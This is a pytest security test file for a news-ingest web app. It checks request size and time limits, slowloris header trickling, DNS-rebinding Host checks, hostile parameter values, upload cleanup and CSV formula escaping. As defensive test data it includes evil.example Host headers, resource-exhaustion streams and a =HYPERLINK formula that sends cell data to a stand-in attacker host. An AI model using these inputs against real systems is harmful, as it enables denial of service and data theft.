"""Issue #18: limits before any handler runs, the Host allow-list, hostile parameters, uploads cleaned
up on every path, and what the API reveals of the server's files (httpx through the ASGI app)."""

from __future__ import annotations

import asyncio
import json
import os
import tempfile
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from crosswire.web.app import create_app
from crosswire.web.security import UploadLimits, default_allowed_hosts, host_name
from store_support import backend_url
from web_fixtures import build_store

TOKEN = "hardening-token"
AUTH = {"Authorization": f"Bearer {TOKEN}"}
BODY = (
    "Negotiators from both delegations met in Stockholm on Monday for a third round of talks, officials "
    "said. The envoy told reporters the meeting had been useful and that both sides would meet again. "
)


@pytest.fixture(params=["sqlite", pytest.param("postgresql", marks=pytest.mark.postgres)])
def db_url(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[str]:
    for url in backend_url(request.param, tmp_path):
        build_store(url)
        yield url


@pytest.fixture()
def sqlite_url(tmp_path: Path) -> str:
    url = str(tmp_path / "web.db")
    build_store(url)
    return url


@pytest.fixture()
def own_tempdir(tmp_path):
    """Upload folders go to this test's own temporary folder: tests running beside it (other xdist
    workers) create and remove upload folders of their own in the shared one."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(tempfile, "tempdir", str(tmp_path))
        yield tmp_path


def client_for(url: str, base: str = "http://127.0.0.1", **kwargs) -> TestClient:
    return TestClient(create_app(url, token=TOKEN, **kwargs), base_url=base)


def is_error_shape(response, status: int) -> bool:
    body = response.json()
    return response.status_code == status and set(body) == {"error", "status"} and body["status"] == status


def finished(client: TestClient, job_id: str) -> dict:
    for _ in range(600):
        job = client.get(f"/api/v1/ingest/{job_id}").json()
        if job["finished"]:
            return job
        time.sleep(0.1)
    raise AssertionError(f"job {job_id} did not finish")


# -- item 2: the request size limit holds for chunked bodies, before authentication ---------------


class Counted:
    """A request body sent in chunks (no Content-Length) that counts what the server took of it."""

    def __init__(self, head: bytes, chunk: bytes, chunks: int, tail: bytes) -> None:
        self.head, self.chunk, self.chunks, self.tail = head, chunk, chunks, tail
        self.sent = 0

    def __iter__(self) -> Iterator[bytes]:
        for piece in (self.head, *([self.chunk] * self.chunks), self.tail):
            self.sent += len(piece)
            yield piece


def asgi_post(app, path: str, headers: dict[str, str], body: Counted) -> tuple[int, dict]:
    """POST `body` to the ASGI app as a server streams it (TestClient would read it whole first)."""

    async def run() -> list[dict]:
        pieces = iter(body)
        done = False

        async def receive() -> dict:
            nonlocal done
            piece = None if done else next(pieces, None)
            if piece is None:
                if done:
                    return {"type": "http.disconnect"}
                done = True
                return {"type": "http.request", "body": b"", "more_body": False}
            return {"type": "http.request", "body": piece, "more_body": True}

        sent: list[dict] = []

        async def send(message: dict) -> None:
            sent.append(message)

        scope = {
            "type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1", "method": "POST",
            "scheme": "http", "path": path, "raw_path": path.encode(), "query_string": b"", "root_path": "",
            "headers": [(b"host", b"127.0.0.1:8000")] + [(k.lower().encode(), v.encode()) for k, v in headers.items()],
            "client": ("127.0.0.1", 40000), "server": ("127.0.0.1", 8000),
        }  # fmt: skip
        await app(scope, receive, send)
        return sent

    messages = asyncio.run(run())
    start = next(m for m in messages if m["type"] == "http.response.start")
    payload = b"".join(m.get("body", b"") for m in messages if m["type"] == "http.response.body")
    return start["status"], json.loads(payload)


def test_an_api_write_without_the_token_is_refused_before_its_body_is_read(sqlite_url):
    # The token travels in a header: a write without it is answered before one byte of the body is
    # taken, however large the body says it is (chunked, so no Content-Length to judge).
    multipart = {"content-type": "multipart/form-data; boundary=cwboundary"}
    json_type = {"content-type": "application/json"}
    for token, status in ((TOKEN, 401), (None, 403)):  # a server with a token, and one without
        app = create_app(sqlite_url, token=token)
        for path, headers in (
            ("/api/v1/ingest/text", json_type),
            ("/api/v1/ingest/url", json_type),
            ("/api/v1/ingest", multipart),
            ("/api/v1/ingest", {**multipart, "Authorization": "Bearer wrong"}),
            ("/api/v1/ingest", {**multipart, "Cookie": f"cw_token={TOKEN}"}),  # never from a cookie
        ):
            body = Counted(b"--cwboundary\r\n", b"x" * 65536, 6000, b"")  # 390 MB
            got, error = asgi_post(app, path, headers, body)
            assert got == status and error == {"error": error["error"], "status": status}, (path, error)
            assert body.sent == 0, (path, body.sent)
        app.state.jobs.shutdown()


def test_a_chunked_json_body_is_cut_at_the_limit(sqlite_url):
    limits = UploadLimits(max_request_bytes=2_000_000, max_paste_chars=10_000)
    body = Counted(b'{"text": "', b"a" * 65536, 400, b'"}')  # 26 MB, no Content-Length
    app = create_app(sqlite_url, token=TOKEN, limits=limits)
    status, error = asgi_post(app, "/api/v1/ingest/text", {"content-type": "application/json", **AUTH}, body)
    assert status == 413 and error == {"error": error["error"], "status": 413}
    assert "request too large" in error["error"]
    # Not read whole: the server stopped taking the body at the limit (plus the chunk that crossed it).
    assert body.sent <= limits.max_form_bytes + 2 * 65536


def test_a_chunked_multipart_upload_is_cut_at_the_limit(sqlite_url, own_tempdir):
    limits = UploadLimits(max_request_bytes=1_000_000, max_file_bytes=10_000_000)
    boundary = "cwboundary"
    head = (
        f'--{boundary}\r\nContent-Disposition: form-data; name="files"; filename="big.txt"\r\n'
        "Content-Type: text/plain\r\n\r\n"
    ).encode()
    headers = {"content-type": f"multipart/form-data; boundary={boundary}"}
    before = set(Path(tempfile.gettempdir()).glob("crosswire-upload-*"))
    app = create_app(sqlite_url, token=TOKEN, limits=limits)
    # The API with its token, and the upload form, whose token and CSRF field are inside the body
    # (any CSRF cookie lets a form post be read, up to the limit and no further).
    for path, extra in (("/api/v1/ingest", AUTH), ("/ingest/upload", {"Cookie": "cw_csrf=anything"})):
        body = Counted(head, b"x" * 65536, 300, f"\r\n--{boundary}--\r\n".encode())  # 19 MB
        status, error = asgi_post(app, path, {**headers, **extra, "accept": "application/json"}, body)
        assert status == 413 and error["status"] == 413, (path, error)
        assert body.sent <= limits.max_request_bytes + 2 * 65536
    # A form post without the CSRF cookie cannot pass the handler's check: refused unread.
    body = Counted(head, b"x" * 65536, 300, b"")
    status, error = asgi_post(app, "/ingest/upload", {**headers, "accept": "application/json"}, body)
    assert status == 403 and "CSRF" in error["error"] and body.sent == 0
    assert set(Path(tempfile.gettempdir()).glob("crosswire-upload-*")) <= before
    app.state.jobs.shutdown()


def test_a_body_that_trickles_is_cut_at_the_time_limit(sqlite_url):
    # A byte now and then keeps a read timeout from ever firing; the body's one deadline does not.
    limits = UploadLimits(max_body_seconds=1.0)
    app = create_app(sqlite_url, token=TOKEN, limits=limits)

    async def run() -> tuple[list[dict], float]:
        async def receive() -> dict:
            await asyncio.sleep(0.2)
            return {"type": "http.request", "body": b"a", "more_body": True}

        sent: list[dict] = []

        async def send(message: dict) -> None:
            sent.append(message)

        scope = {
            "type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1", "method": "POST",
            "scheme": "http", "path": "/api/v1/ingest/text", "raw_path": b"/api/v1/ingest/text",
            "query_string": b"", "root_path": "", "client": ("127.0.0.1", 40000), "server": ("127.0.0.1", 8000),
            "headers": [(b"host", b"127.0.0.1"), (b"content-type", b"application/json"),
                        (b"authorization", f"Bearer {TOKEN}".encode())],
        }  # fmt: skip
        started = time.monotonic()
        await asyncio.wait_for(app(scope, receive, send), 30)
        return sent, time.monotonic() - started

    messages, took = asyncio.run(run())
    start = next(m for m in messages if m["type"] == "http.response.start")
    body = json.loads(b"".join(m.get("body", b"") for m in messages if m["type"] == "http.response.body"))
    assert start["status"] == 408 and body == {"error": body["error"], "status": 408} and took < 5
    assert "within 1 s" in body["error"]
    # The deadline is the body's only: a response streamed for longer than it is never cut.
    with TestClient(
        create_app(sqlite_url, token=TOKEN, limits=UploadLimits(max_body_seconds=0.001))
    ) as client:
        export = client.get("/export/articles.jsonl", headers={"Host": "127.0.0.1"})
        assert export.status_code == 200 and len(export.text.splitlines()) == 3


@pytest.fixture()
def live_server(sqlite_url) -> Iterator[int]:
    """A real uvicorn server (its HTTP parser, its connection handling) on a free loopback port."""
    import threading

    import uvicorn

    from crosswire.cli.serve import BoundedHttpToolsProtocol

    limits = UploadLimits(max_request_bytes=1_000_000, max_paste_chars=10_000)
    app = create_app(sqlite_url, token=TOKEN, limits=limits)
    config = uvicorn.Config(app, host="127.0.0.1", port=0, log_level="warning", http=BoundedHttpToolsProtocol)
    server = uvicorn.Server(config)
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    for _ in range(300):
        if server.started:
            break
        time.sleep(0.05)
    assert server.started, "uvicorn did not start"
    yield server.servers[0].sockets[0].getsockname()[1]
    server.should_exit = True
    thread.join(30)


def stream_to(port: int, head: bytes, total: int) -> tuple[int, bytes]:
    """Send `head`, then a chunked body of `total` bytes as fast as the server takes it, while reading
    the answer: (bytes of the body the server took before it shut the connection, the answer)."""
    import socket
    import threading

    sock = socket.create_connection(("127.0.0.1", port), timeout=30)
    answer = bytearray()

    def read() -> None:
        try:
            while piece := sock.recv(65536):
                answer.extend(piece)
        except OSError:
            pass

    reader = threading.Thread(target=read, daemon=True)
    reader.start()
    sent, chunk = 0, b"%x\r\n%s\r\n" % (65536, b"a" * 65536)
    try:
        sock.sendall(head)
        while sent < total:
            sock.sendall(chunk)
            sent += 65536
    except OSError:  # the server closed the connection: what it had not taken is refused
        pass
    reader.join(30)
    sock.close()
    return sent, bytes(answer)


def test_a_real_server_closes_the_connection_after_refusing_a_body(live_server):
    # Through uvicorn: after the 413 (or the 401 before the body) the connection is closed, so the
    # client cannot go on streaming 200 MB for the server to read and throw away.
    too_large = (
        b"POST /api/v1/ingest/text HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
        b"Authorization: Bearer " + TOKEN.encode() + b"\r\nTransfer-Encoding: chunked\r\n\r\n"
    )
    no_token = too_large.replace(TOKEN.encode(), b"wrong")
    for head, status in ((too_large, b"413"), (no_token, b"401")):
        sent, answer = stream_to(live_server, head, 200 * 1024 * 1024)
        assert sent < 60 * 1024 * 1024, (status, sent)  # the rest was refused, not read
        if answer:  # a reset can reach the client before the answer it follows
            assert answer.split(b"\r\n", 1)[0].split(b" ")[1] == status, answer[:200]
            assert b"\r\nconnection: close\r\n" in answer.lower()


def test_a_real_server_bounds_the_size_and_time_of_request_headers(live_server, monkeypatch):
    # uvicorn's own protocol has neither limit: a 200 MB header grew the server by 250 MB, and a header
    # sent a byte at a time held its connection for good (slowloris).
    import socket

    from crosswire.cli import serve as serve_module

    monkeypatch.setattr(serve_module, "HEAD_SECONDS", 1.5)
    with socket.create_connection(("127.0.0.1", live_server), timeout=30) as sock:
        sock.sendall(b"GET /api/v1/outlets HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Big: ")
        sent = 0
        try:
            while sent < 100 * 1024 * 1024:
                sock.sendall(b"a" * 65536)
                sent += 65536
        except OSError:
            pass
        assert sent < 20 * 1024 * 1024, sent
    started = time.monotonic()
    with socket.create_connection(("127.0.0.1", live_server), timeout=30) as sock:
        sock.sendall(b"GET /api/v1/outlets HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ")
        answer = b""
        try:
            for _ in range(200):  # a byte every 50 ms: no read ever waits long
                sock.sendall(b"a")
                time.sleep(0.05)
        except OSError:
            pass
        try:
            while piece := sock.recv(65536):
                answer += piece
        except OSError:
            pass
    assert time.monotonic() - started < 8
    if answer:  # a reset can reach the client before the answer it follows
        assert answer.startswith(b"HTTP/1.1 408 ") and b'"status": 408' in answer, answer[:200]
    # Requests that keep to the limits are served as before, several on one connection.
    import httpx

    with httpx.Client(base_url=f"http://127.0.0.1:{live_server}") as client:
        for _ in range(3):
            assert client.get("/api/v1/outlets").status_code == 200
        time.sleep(2)  # idle between requests is the keep-alive's business, not the headers' limit
        assert client.get("/api/v1/outlets", headers={"X-Pad": "p" * 60000}).status_code == 200


def test_serve_runs_uvicorn_with_the_bounded_protocol(tmp_path, monkeypatch):
    from typer.testing import CliRunner

    from crosswire.cli import app as cli
    from crosswire.cli import serve as serve_module

    runs = []
    monkeypatch.setattr(serve_module.uvicorn, "run", lambda target, **kwargs: runs.append(kwargs))
    for workers in ("1", "2"):
        result = CliRunner().invoke(cli, ["serve", "--db", str(tmp_path / "s.db"), "--workers", workers])
        assert result.exit_code == 0, result.output
    assert [r["http"] for r in runs] == [serve_module.BoundedHttpToolsProtocol] * 2


def test_a_real_server_refuses_malformed_and_doubled_host_headers(live_server):
    import socket

    def status_for(host_lines: bytes) -> bytes:
        with socket.create_connection(("127.0.0.1", live_server), timeout=30) as sock:
            sock.sendall(b"GET /api/v1/outlets HTTP/1.1\r\n" + host_lines + b"Connection: close\r\n\r\n")
            answer = b""
            while piece := sock.recv(65536):
                answer += piece
        return answer.split(b"\r\n", 1)[0].split(b" ")[1]

    assert status_for(b"Host: 127.0.0.1\r\n") == b"200"
    # What uvicorn's parser cannot read is answered in the documented shape too.
    with socket.create_connection(("127.0.0.1", live_server), timeout=30) as sock:
        sock.sendall(b"POST /api/v1/ingest/text HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: -1\r\n\r\n")
        answer = b""
        while piece := sock.recv(65536):
            answer += piece
    head, body = answer.split(b"\r\n\r\n", 1)
    assert head.startswith(b"HTTP/1.1 400 ") and json.loads(body)["status"] == 400, answer
    assert status_for(b"Host: [::1]:8000\r\n") == b"200"
    assert status_for(b"Host: localhost.:8000\r\n") == b"200"
    for lines in (
        b"Host: 127.0.0.1\r\nHost: evil.example\r\n",  # which one counts depends on who reads it
        b"Host: evil.example\r\nHost: 127.0.0.1\r\n",
        b"Host: localhost:80@evil.example\r\n",
        b"Host: localhost:abc\r\n",
        b"Host: [::1]evil.example\r\n",
        b"Host: [::1\r\n",
        b"",  # HTTP/1.1 without a Host header
    ):
        assert status_for(lines) == b"400", lines


def test_a_declared_length_over_the_limit_is_refused_unread(sqlite_url):
    with client_for(sqlite_url) as client:
        response = client.post(
            "/api/v1/ingest/text",
            content=b"{}",
            headers={"content-type": "application/json", "content-length": str(60 * 1024 * 1024), **AUTH},
        )
    assert is_error_shape(response, 413)


def test_browsers_get_the_error_page_for_a_refused_request(sqlite_url):
    with client_for(sqlite_url) as client:
        page = client.get("/", headers={"Host": "evil.example", "Accept": "text/html"})
    assert page.status_code == 400 and "text/html" in page.headers["content-type"]
    assert "evil.example" in page.text and "<script" not in page.text.split("</head>")[-1].lower()
    assert "script-src 'self'" in page.headers["content-security-policy"]


# -- item 3: DNS rebinding --------------------------------------------------------------------------


def test_a_loopback_server_answers_only_to_loopback_host_names(sqlite_url):
    with client_for(sqlite_url) as client:
        for host in ("127.0.0.1", "127.0.0.1:8000", "localhost:8000", "[::1]:8000", "LOCALHOST"):
            assert client.get("/api/v1/articles", headers={"Host": host}).status_code == 200, host
        for host in ("evil.example", "evil.example:8000", "127.0.0.1.evil.example", "", "localhost.evil"):
            response = client.get("/export/articles.jsonl", headers={"Host": host})
            assert is_error_shape(response, 400), host
            assert "--allow-host" in response.json()["error"]
    with client_for(sqlite_url, allowed_hosts=["cw.internal"]) as client:
        assert client.get("/api/v1/articles", headers={"Host": "cw.internal:8080"}).status_code == 200
        assert client.get("/api/v1/articles", headers={"Host": "evil.example"}).status_code == 400


def test_allowed_host_rules():
    assert host_name("[::1]:8000") == "::1" and host_name("Example.ORG:80") == "example.org"
    assert host_name("::1") == "::1" and host_name("localhost.:8000") == "localhost"
    for malformed in ("localhost:80@evil", "localhost:abc", "[::1]evil", "[::1", "[evil]", "a b", "x:1:2"):
        assert host_name(malformed) == "", malformed
    assert default_allowed_hosts("127.0.0.1") == {"localhost", "127.0.0.1", "::1"}
    assert default_allowed_hosts("10.0.0.5") == {"localhost", "127.0.0.1", "::1", "10.0.0.5"}
    # Bound to every interface, the names it is reached by are unknown: any, unless given.
    assert default_allowed_hosts("0.0.0.0") is None
    assert default_allowed_hosts("::", ["cw.example"]) == {"cw.example", "localhost", "127.0.0.1", "::1"}
    # A name that is no host name would have allowed every malformed or missing Host header.
    for given in ("http://cw.example", "cw example", "[::1"):
        with pytest.raises(ValueError, match="not a host name"):
            default_allowed_hosts("127.0.0.1", [given])


# -- item 5: hostile parameters get a 4xx in the documented shape, on both backends ----------------

HOSTILE_VALUES = [
    "9223372036854775808",
    "-9223372036854775809",
    "1e309",
    "\uff19",  # a full-width digit: str.isdigit() says yes, int() of it is not what was meant
    "\u00b2",
    "9" * 5000,
    "a\x00b",
    "2019-13-45",
    "9999-12-31T23:59:59-23:59",
    "0001-01-01T00:00:00+14:00",
    "x" * 3000,
]


def _api_get_routes(client: TestClient) -> list[tuple[str, list[str]]]:
    schema = client.get("/api/v1/openapi.json").json()
    routes = []
    for path, methods in schema["paths"].items():
        if "get" in methods:
            params = [p["name"] for p in methods["get"].get("parameters", []) if p["in"] == "query"]
            routes.append((path, params))
    return routes


def test_hostile_values_in_every_api_parameter_are_client_errors(db_url):
    with client_for(db_url) as client:
        routes = _api_get_routes(client)
        assert len(routes) >= 10
        for path, params in routes:
            concrete = path.replace("{article_id}", "0000000000000000").replace("{story_id}", "x")
            concrete = concrete.replace("{name}", "Kim").replace("{job_id}", "0000000000000000")
            for name in params:
                for value in HOSTILE_VALUES:
                    base = {"q": "talks"} if "search" in path and name != "q" else {}
                    response = client.get(concrete, params={**base, name: value})
                    assert response.status_code < 500, (path, name, value[:20], response.text[:300])
                    if response.status_code >= 400:
                        assert is_error_shape(response, response.status_code), (path, name, response.text)
            for value in ("a%00b", "%C2%B2", "%FF"):  # and in the path itself
                response = client.get(path.split("{")[0] + value) if "{" in path else None
                assert response is None or response.status_code < 500, (path, value)


def test_hostile_values_in_page_parameters_are_client_errors(db_url):
    pages = {
        "/articles": ["page", "outlet"],
        "/search": ["q", "page", "since", "until", "outlet", "actor", "root", "kind"],
        "/actors": ["prefix"],
        "/articles/0000000000000000": ["hl"],
        "/stories/x": [],
    }
    with client_for(db_url) as client:
        for path, params in pages.items():
            for name in params:
                for value in HOSTILE_VALUES:
                    response = client.get(path, params={name: value})
                    assert response.status_code < 500, (path, name, value[:20], response.text[:300])


def test_out_of_range_offsets_and_bad_dates_name_the_parameter(sqlite_url):
    with client_for(sqlite_url) as client:
        offset = client.get("/api/v1/articles", params={"offset": "9223372036854775808"})
        assert is_error_shape(offset, 422) and "offset" in offset.json()["error"]
        since = client.get("/api/v1/articles", params={"since": "2019-13-45"})
        assert is_error_shape(since, 422) and "since" in since.json()["error"]
        nul = client.get("/api/v1/articles", params={"outlet": "Dong-A\x00"})
        assert is_error_shape(nul, 400) and "NUL" in nul.json()["error"]


def test_an_odd_highlight_range_is_ignored_not_an_error(sqlite_url):
    with client_for(sqlite_url) as client:
        first = client.get("/api/v1/articles", params={"limit": 1}).json()["items"][0]["id"]
        for value in ("\u00b2-\u00b3", "1-" + "9" * 5000, "\uff11-\uff19", "5-3", "-", "0-999999999999"):
            page = client.get(f"/articles/{first}", params={"hl": value})
            assert page.status_code == 200, (value, page.text[:200])
            assert 'id="hl"' not in page.text


# -- item 1 (web) and item 5: uploads --------------------------------------------------------------


@pytest.mark.slow
def test_a_good_page_uploaded_with_a_hostile_one_is_stored(sqlite_url):
    hostile = json.dumps(
        {"id": "edge", "title": "Edge", "text": BODY + "Edge.", "published": "9999-12-31T23:59:59-23:59"}
    )
    nul = json.dumps({"id": "nul", "title": "Nul", "text": BODY + "Nul \u0000 end."})
    files = [
        ("files", ("good.txt", (BODY + "Good.").encode(), "text/plain")),
        ("files", ("bad.jsonl", (hostile + "\n" + nul + "\n").encode(), "application/json")),
    ]
    with client_for(sqlite_url) as client:
        before = client.get("/api/v1/articles").json()["total"]
        job = client.post("/api/v1/ingest", files=files, headers=AUTH).json()
        done = finished(client, job["id"])
        assert done["state"] == "done" and done["counts"]["added"] == 3, done
        assert any(p["path"] == "bad.jsonl" and "record 'edge'" in p["message"] for p in done["problems"])
        assert client.get("/api/v1/articles").json()["total"] == before + 3


def test_an_upload_name_too_long_for_the_file_system_is_refused_and_nothing_left(sqlite_url, own_tempdir):
    before = set(Path(tempfile.gettempdir()).glob("crosswire-upload-*"))
    with client_for(sqlite_url) as client:
        for name in ("a" * 300 + ".txt", "\u00e9" * 200 + ".txt"):  # 304 and 404 bytes
            response = client.post(
                "/api/v1/ingest", files={"files": (name, BODY.encode(), "text/plain")}, headers=AUTH
            )
            assert is_error_shape(response, 400) and "name" in response.json()["error"], response.text
    assert set(Path(tempfile.gettempdir()).glob("crosswire-upload-*")) <= before


def test_a_failure_while_writing_an_upload_leaves_no_folder(sqlite_url, monkeypatch, own_tempdir):
    before = set(Path(tempfile.gettempdir()).glob("crosswire-upload-*"))

    def disk_full(self, data):
        raise OSError(28, "No space left on device")

    with client_for(sqlite_url) as client:
        monkeypatch.setattr(Path, "write_bytes", disk_full)
        response = client.post(
            "/api/v1/ingest", files={"files": ("ok.txt", BODY.encode(), "text/plain")}, headers=AUTH
        )
        monkeypatch.undo()
    assert is_error_shape(response, 507) and "No space left" in response.json()["error"]
    assert set(Path(tempfile.gettempdir()).glob("crosswire-upload-*")) <= before


# -- item 7: the API does not reveal the server's folders -------------------------------------------


@pytest.mark.slow
def test_source_paths_are_file_names_in_the_api_and_web_exports(sqlite_url):
    with client_for(sqlite_url) as client:
        job = client.post(
            "/api/v1/ingest",
            files={"files": ("mine.txt", (BODY + "Mine.").encode(), "text/plain")},
            headers=AUTH,
        ).json()
        assert finished(client, job["id"])["state"] == "done"
        records = client.get("/api/v1/articles", params={"limit": 200}).json()["items"]
        exported = [json.loads(line) for line in client.get("/export/articles.jsonl").text.splitlines()]
        for record in [*records, *exported]:
            path = record["source_path"]
            assert path is None or ("/" not in path and "crosswire-upload" not in path), path
        assert "mine.txt" in {r["source_path"] for r in records}
        one = client.get(f"/api/v1/articles/{records[0]['id']}").json()
        assert one["source_path"] is None or "/" not in one["source_path"]


def test_an_unexpected_error_is_answered_in_the_documented_shape(sqlite_url, monkeypatch):
    from crosswire.store import browse as store_browse

    def broken(*args, **kwargs):
        raise RuntimeError("a bug with private details /home/analyst")

    monkeypatch.setattr(store_browse, "outlet_counts", broken)
    app = create_app(sqlite_url, token=TOKEN)
    with TestClient(app, base_url="http://127.0.0.1", raise_server_exceptions=False) as client:
        response = client.get("/api/v1/outlets")
        assert is_error_shape(response, 500) and "/home/analyst" not in response.text
        page = client.get("/api/v1/outlets", headers={"Accept": "text/html"})
        assert page.status_code == 500


def test_queued_uploads_are_removed_when_the_server_stops(monkeypatch, own_tempdir):
    # Jobs run one at a time; one still queued when the server shuts down never runs, and its upload
    # folder goes with it (uploads are cleaned up on every path).
    import threading

    from crosswire.web import jobs as jobs_module

    started, release = threading.Event(), threading.Event()

    def slow_job(store, folder, steps, report):
        started.set()
        release.wait(30)

    monkeypatch.setattr(jobs_module, "run_job", slow_job)
    before = set(Path(tempfile.gettempdir()).glob("crosswire-upload-*"))
    assert before == set()
    app = create_app(":memory:", token=TOKEN)  # in-memory: jobs run in the coordinator thread
    queue = app.state.jobs
    queue.submit([("a.txt", BODY.encode())])
    assert started.wait(30)
    queue.submit([("b.txt", BODY.encode())])
    queue.submit([("c.txt", BODY.encode())])
    assert len(set(Path(tempfile.gettempdir()).glob("crosswire-upload-*")) - before) == 3
    threading.Timer(0.5, release.set).start()
    queue.shutdown()
    app.state.store.close()
    assert set(Path(tempfile.gettempdir()).glob("crosswire-upload-*")) <= before


def test_the_web_csv_download_never_hands_a_spreadsheet_a_formula(sqlite_url):
    # Issue #18 item 6, the web's CSV export (the dashboard's CSV button): a title or outlet that a
    # spreadsheet would run as a formula is written with an apostrophe in front.
    import csv
    import io

    from crosswire.model import Article
    from crosswire.store import open_store

    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    with open_store(sqlite_url) as store:
        store.save_articles(
            [Article(text=BODY + "Formula.", title=formula, outlet="@Outlet", authors=["-me"])]
        )
    with client_for(sqlite_url) as client:
        response = client.get("/export/articles.csv")
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.text)))
    [row] = [r for r in rows if formula in r["title"]]
    assert row["title"] == "'" + formula and row["outlet"] == "'@Outlet" and row["authors"] == "'-me"
    cells = [value for r in rows for value in r.values()]
    assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in cells if value)


# -- item 1 (paste): one pasted text with a NUL or a lone surrogate is stored, a date that is no day refused


def test_pasted_text_loses_its_control_characters_not_the_paste(tmp_path):
    from crosswire.ingest import IngestOptions, read_file
    from crosswire.web.jobs import pasted_document

    document = pasted_document(
        BODY + "Nul \x00 and \ud800 and \x1b[31m end.", "T\x00itle\ud800", "Out\x00let", None
    )
    data = document.encode("utf-8")  # a lone surrogate could not be written at all
    assert b"\x00" not in data and b"\x1b" not in data
    (tmp_path / "pasted.txt").write_bytes(data)
    (article,) = read_file(tmp_path / "pasted.txt", IngestOptions())
    assert " ".join(article.text.split()).endswith("Nul and and [31m end."), article.text
    assert article.title == "T itle" and article.outlet == "Out let"


def test_a_pasted_date_that_is_no_day_is_refused_before_anything_is_queued(sqlite_url):
    with client_for(sqlite_url) as client:
        for value in ("2020-02-30", "2019-13-45", "2020-01-01T25:00"):
            response = client.post(
                "/api/v1/ingest/text", json={"text": BODY, "published": value}, headers=AUTH
            )
            assert is_error_shape(response, 422) and "published" in response.json()["error"], value
        page = client.get("/ingest")
        csrf = page.text.split('name="csrf_token" value="', 1)[1].split('"', 1)[0]
        form = {"text": BODY, "published": "2020-02-30", "csrf_token": csrf, "token": TOKEN}
        refused = client.post("/ingest/paste", data=form, headers={"Accept": "application/json"})
        assert is_error_shape(refused, 400) and "2020-02-30" in refused.json()["error"]
        assert client.get("/api/v1/articles").json()["total"] == 3
        assert not client.app.state.jobs.recent()


@pytest.mark.slow
def test_a_paste_with_a_nul_is_stored_through_the_api(sqlite_url):
    with client_for(sqlite_url) as client:
        before = client.get("/api/v1/articles").json()["total"]
        job = client.post(
            "/api/v1/ingest/text",
            content=json.dumps(  # "\\u0000" and "\\ud800" as JSON escapes, as a client sends them
                {
                    "text": BODY + "Nul \u0000 end.",
                    "title": "Sur\ud800",
                    "published": "9999-12-31T23:59:59-23:59",
                }
            ),
            headers={**AUTH, "content-type": "application/json"},
        )
        assert job.status_code == 202, job.text
        done = finished(client, job.json()["id"])
        assert done["state"] == "done" and done["counts"]["added"] == 1, done
        assert any("outside the calendar" in p["message"] for p in done["problems"]), done["problems"]
        assert client.get("/api/v1/articles").json()["total"] == before + 1


def test_a_killed_servers_upload_folders_are_removed_by_the_next_server(own_tempdir):
    # A server killed with SIGKILL runs no shutdown: its upload folders stay until a server starts again,
    # which removes those of processes no longer running and leaves a live process's alone.
    import subprocess
    import sys

    from crosswire.web.jobs import UPLOAD_PREFIX, sweep_orphan_uploads

    dead = subprocess.run(
        [sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True
    )
    root = Path(tempfile.gettempdir())
    gone = root / f"{UPLOAD_PREFIX}{int(dead.stdout)}-abc123"
    (gone / "sub").mkdir(parents=True)
    (gone / "sub" / "a.txt").write_text(BODY, encoding="utf-8")
    live = root / f"{UPLOAD_PREFIX}{os.getpid()}-def456"
    live.mkdir()
    unrelated = root / f"{UPLOAD_PREFIX}notapid"
    unrelated.mkdir()
    create_app(":memory:", token=TOKEN).state.jobs.shutdown()
    assert not gone.exists()
    assert live.exists() and unrelated.exists()
    assert sweep_orphan_uploads(root) == []
